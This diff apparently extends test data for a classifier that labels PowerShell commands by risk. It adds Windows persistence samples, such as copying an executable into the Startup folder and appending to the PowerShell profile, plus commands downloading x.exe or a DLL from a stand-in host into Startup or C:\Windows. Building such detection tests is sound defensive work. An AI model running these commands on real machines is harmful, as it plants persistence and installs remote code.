@@ -332,6 +332,11 @@ persists New-Service a -BinaryPathName C:\x.exe
 persists New-CimInstance -Namespace root/subscription -ClassName __EventFilter
 persists Set-WmiInstance -Class CommandLineEventConsumer -Arguments $x
 persists schtasks /create /tn a /tr calc
+persists $d = [Environment]::GetFolderPath('Startup'); Copy-Item a.exe $d
+persists $p = $PROFILE; Add-Content $p 'calc'
+persists iwr http://a.test/x.exe -OutFile "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\x.exe"
+writes_system_files curl.exe -o C:\Windows\x.dll http://a.test/x
+? [System.Diagnostics.Process]::Start
 runs_dynamic_code Register-EngineEvent PowerShell.Exiting -Action { Get-Date }
 changes_registry sp HKCU:\x y z
 changes_registry rp HKLM:\x y
